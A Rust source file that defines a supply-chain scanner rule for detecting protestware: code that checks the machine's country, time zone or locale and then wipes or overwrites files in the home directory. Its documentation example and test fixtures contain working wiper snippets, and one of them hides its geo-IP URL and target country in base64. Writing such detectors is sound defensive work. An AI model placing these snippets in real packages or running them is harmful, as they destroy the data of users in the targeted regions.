//! `protestware`: destructive or disruptive behaviour gated on the machine's country.

use crate::declare_rule;
use crate::detect::campaigns::{self, Confidence};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::{Action, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports code whose behaviour is gated on where the machine is — a geo-IP lookup of the
    /// country, the system time zone (`Europe/Moscow`) or locale (`ru-RU`, `$LANG`) compared
    /// with targeted countries — and that, in the same file, walks the home directory and
    /// overwrites or deletes what it finds (`readdir` with `writeFile`/`rm`/`unlink`, rooted at
    /// `os.homedir()`, `$HOME` or the Desktop). A gate with a single write to the home
    /// directory or Desktop (a message file) is only recorded (monitor).
    ///
    /// ## Why is this a risk?
    /// Protestware turns a trusted dependency into a wiper for everyone in a region: node-ipc
    /// 10.1.1 (CVE-2022-23812) overwrote every file it could reach with a heart when a geo-IP
    /// service placed the machine in Russia or Belarus.
    ///
    /// ## Example
    /// ```js
    /// if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Moscow")
    ///   for (const f of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), f), { recursive: true });
    /// ```
    ///
    /// ## False positives
    /// i18n and date libraries hold time-zone and locale names and read `$LANG`, and geo-IP
    /// libraries update their databases on disk, but none of them walk and overwrite the home
    /// directory. Messages printed to the console are not reported.
    ///
    /// ## References
    /// - node-ipc CVE-2022-23812 (RIAEvangelist/node-ipc#233); peacenotwar; GuardDog `troll`
    Protestware, id = "protestware", category = Malicious, severity = High, action = Warn,
}

impl Rule for Protestware {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let detected = cx.shared(pkg, campaigns::Campaigns::detect);
        let Some(ev) = detected.get(Self::META.id) else {
            return;
        };
        let action = match ev.confidence {
            Confidence::High => Self::META.default_action,
            Confidence::Medium => Action::Monitor,
        };
        if let Some(f) = ev.finding(&Self::META, action) {
            cx.report(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    const TZ_WIPER: &str = "const fs = require('fs'); const os = require('os'); const path = require('path');\n\
        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
        if (['Europe/Moscow', 'Europe/Minsk'].includes(tz)) {\n\
          for (const e of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), e), { recursive: true, force: true });\n\
        }\n";

    const GEO_WIPER: &str = "import fs from 'fs'; import https from 'https';\n\
        https.get(Buffer.from('aHR0cHM6Ly9hcGkuaXBnZW8uZXhhbXBsZS9pcGdlbw==', 'base64').toString(), (r) => r.on('data', (d) => {\n\
          const c = JSON.parse(d)[Buffer.from('Y291bnRyeV9uYW1l', 'base64').toString()];\n\
          if (c.includes(Buffer.from('cnVzc2lh', 'base64').toString())) walk(process.env.HOME);\n\
        }));\n\
        function walk(d) { for (const f of fs.readdirSync(d)) fs.writeFile(d + '/' + f, '\u{2764}', () => {}); }\n";

    #[test]
    fn protestware() {
        let pass = [
            // A date library: zone names and $LANG, no file writes.
            (
                "locale.js",
                "const zones = ['Europe/Moscow', 'Europe/Minsk', 'America/New_York'];\n\
                 module.exports = { lang: process.env.LANG, zones };",
            ),
            // A geo-IP database updater: geo URL, country data, writes to its own directory.
            (
                "scripts/updatedb.js",
                "const fs = require('fs'); const https = require('https');\n\
                 https.get('https://download.geoip.example/GeoLite2-Country.tar.gz', () => {\n\
                   for (const f of fs.readdirSync(__dirname + '/data')) fs.unlinkSync(__dirname + '/data/' + f);\n\
                   fs.writeFileSync(__dirname + '/data/country.dat', '');\n\
                 });",
            ),
            // A CLI that writes its config to the home directory, with a Russian translation.
            (
                "cli.js",
                "const fs = require('fs'); const os = require('os');\n\
                 const msgs = { 'ru-RU': 'Привет' };\n\
                 fs.writeFileSync(os.homedir() + '/.toolrc', JSON.stringify(msgs));",
            ),
        ];
        let fail = [("index.js", TZ_WIPER), ("dao/ssl-geospec.js", GEO_WIPER)];
        let t = Tester::new(super::Protestware).pass(pass).fail(fail);
        t.test_and_snapshot();
        assert_eq!(t.findings([("index.js", TZ_WIPER)])[0].action, Action::Warn);
    }
}
